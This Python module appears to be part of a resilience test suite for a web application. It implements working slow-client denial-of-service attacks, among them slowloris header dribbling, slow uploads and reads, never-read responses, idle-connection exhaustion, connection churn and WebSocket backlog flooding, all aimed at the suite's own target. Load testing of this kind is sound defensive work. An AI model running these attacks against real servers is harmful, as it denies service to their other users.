"""Attacks on promise 2: no slow client holds resources that others need."""

from __future__ import annotations

import asyncio
import random
import select
import socket
from itertools import cycle
from uuid import uuid4

from .aim import Aim, attack
from .wire import FORM, request_bytes

SIP = 14  # bytes a second: a download takes hours
BODY = 1_000_000  # bytes, just below Django's limit for a form
CROWD = 100  # connections
HEADERS = 200  # connections with a request that is never completed
IDLE = 1_100  # connections: more than the server may open
DEAF = 10  # sockets: as many as a person may have


@attack("slow")
async def slow_static(aim: Aim) -> None:
    """Read the largest static file a hundred times at 14 bytes a second, without a session."""
    await _sip(aim, request_bytes(aim.address, "GET", aim.world["static"]))


@attack("slow")
async def slow_exports(aim: Aim) -> None:
    """Read one's own export a hundred times at 14 bytes a second."""
    await _sip(aim, request_bytes(aim.address, "POST", "/export/", aim.cookie(), b"", FORM))


async def _sip(aim: Aim, request: bytes) -> None:
    async def one() -> None:
        with await aim.connect() as sock:
            await _send(sock, request)
            is_first = True
            while data := await asyncio.get_running_loop().sock_recv(sock, SIP):
                if is_first:
                    aim.tally[data.split()[1].decode()] += 1
                is_first = False
                await asyncio.sleep(1)

    await aim.hold(CROWD, one)


@attack("slow")
async def half_bodies(aim: Aim) -> None:
    """Send a hundred log-in forms of 1 MB without the last byte."""
    await _hold(aim, CROWD, _head(aim) + b"x" * (BODY - 1))


@attack("slow")
async def slow_bodies(aim: Aim) -> None:
    """Send a hundred log-in forms of 1 MB at 14 bytes a second."""

    async def one() -> None:
        with await aim.connect() as sock:
            await _send(sock, _head(aim))
            while True:
                await _send(sock, b"x" * SIP)
                await asyncio.sleep(1)

    await aim.hold(CROWD, one)


@attack("slow")
async def slow_headers(aim: Aim) -> None:
    """Send the headers of two hundred requests at a byte a second (“slowloris”)."""

    async def one() -> None:
        with await aim.connect() as sock:
            await _send(sock, b"GET /login/ HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            for byte in cycle(b"X-A: b\r\n"):
                await _send(sock, bytes((byte,)))
                await asyncio.sleep(1)

    await aim.hold(HEADERS, one)


@attack("slow")
async def unread_answers(aim: Aim) -> None:
    """Ask for a page two hundred times on sixteen connections, and never read an answer."""
    request = request_bytes(aim.address, "GET", "/login/")
    await _hold(aim, 16, 200 * request)


@attack("slow")
async def deaf_sockets(aim: Aim) -> None:
    """Open live sockets that never read, while they ping and their account gets messages."""

    async def deaf() -> None:
        live = await aim.open_live("mallory")
        live.stop_reading()
        while not live.closed:
            if live.backlog < BODY:
                live.send(b'{"type":"ping"}')
                aim.tally["frames"] += 1
            await asyncio.sleep(0.005)

    def long_text(_number: int) -> object:
        return {"type": "send", "client_id": str(uuid4()), "to": "mallory", "text": "长" * 4_000}

    talking = (aim.flood(long_text, name=name, per_second=3) for name in ("trudy", "eve"))
    await asyncio.gather(aim.hold(DEAF, deaf), *talking)


@attack("connections")
async def idle_connections(aim: Aim) -> None:
    """Open more idle connections than the server may have open files (1,024)."""
    await _hold(aim, IDLE, b"")


@attack("connections")
async def idle_after_page(aim: Aim) -> None:
    """Open as many, each idle after a first answer."""
    await _hold(aim, IDLE, request_bytes(aim.address, "GET", "/healthz"))


@attack("connections")
async def churn(aim: Aim) -> None:
    """Open and cut connections in a loop, in the middle of their data."""
    request = request_bytes(aim.address, "GET", "/login/")

    async def one() -> None:
        while True:
            with await aim.connect() as sock:
                await _send(sock, request[: random.randrange(len(request) + 1)])
                aim.tally["opened"] += 1

    await aim.hold(16, one)


async def _hold(aim: Aim, count: int, said: bytes) -> None:
    """Open connections that send something and then wait until the server ends them."""

    async def one() -> None:
        with await aim.connect() as sock:
            aim.tally["opened"] += 1
            await _send(sock, said)
            while not _has_ended(sock):  # noqa: ASYNC110  (nothing tells it without reading)
                await asyncio.sleep(1)

    await aim.hold(count, one)


def _has_ended(sock: socket.socket) -> bool:
    """Whether the server has closed its side; its answer stays unread."""
    poll = select.poll()
    poll.register(sock, select.POLLRDHUP)
    return bool(poll.poll(0))


async def _send(sock: socket.socket, data: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(sock, data)


def _head(aim: Aim) -> bytes:
    whole = request_bytes(aim.address, "POST", "/login/", "", b"", FORM)
    return whole.replace(b"Content-Length: 0", b"Content-Length: %d" % BODY)
